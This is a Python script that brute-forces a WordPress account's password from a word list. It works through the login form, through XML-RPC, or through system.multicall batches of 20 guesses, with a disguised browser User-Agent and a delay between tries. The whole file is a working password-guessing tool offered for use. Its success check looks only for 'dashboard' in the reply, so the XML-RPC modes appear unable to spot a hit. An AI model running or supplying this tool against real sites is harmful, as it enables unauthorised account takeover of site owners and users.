#!/usr/bin/python3
"""Guesses at a blog: by its form, whose token is fetched anew for every guess, or by XML-RPC,
one guess or many in a call. usage: wpguess.py form|rpc|multicall BASE USER WORDS SECONDS"""
import re, sys, time, urllib.error, urllib.parse, urllib.request
from http.cookiejar import CookieJar

mode, base, user, words, gap = sys.argv[1], sys.argv[2], sys.argv[3], open(sys.argv[4]).read().split(), float(sys.argv[5])
web = urllib.request.build_opener(urllib.request.HTTPCookieProcessor(CookieJar()))
web.addheaders = [("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:120.0) Gecko/20100101 Firefox/120.0")]
CALL = "<methodCall><methodName>wp.getUsersBlogs</methodName><params><param><value>%s</value></param><param><value>%s</value></param></params></methodCall>"
ONE = ("<value><struct><member><name>methodName</name><value>wp.getUsersBlogs</value></member><member><name>params</name>"
       "<value><array><data><value>%s</value><value>%s</value></data></array></value></member></struct></value>")


def post(path, data):
    try:
        return web.open(base + path, data.encode(), timeout=8).read().decode()
    except urllib.error.HTTPError as e:
        return e.read().decode()


while words:
    if mode == "form":
        page = web.open(base + "/wp-login.php", timeout=8).read().decode()
        token = re.search(r'name="_token" value="(\w+)"', page).group(1)
        said = post("/wp-login.php", urllib.parse.urlencode({"log": user, "pwd": words.pop(0), "_token": token, "wp-submit": "Log In"}))
    elif mode == "rpc":
        said = post("/xmlrpc.php", CALL % (user, words.pop(0)))
    else:
        said = post("/xmlrpc.php", "<methodCall><methodName>system.multicall</methodName><params><param><value><array><data>" +
                    "".join(ONE % (user, w) for w in words[:20]) + "</data></array></value></param></params></methodCall>")
        words = words[20:]
    if "dashboard" in said:
        break
    time.sleep(gap)
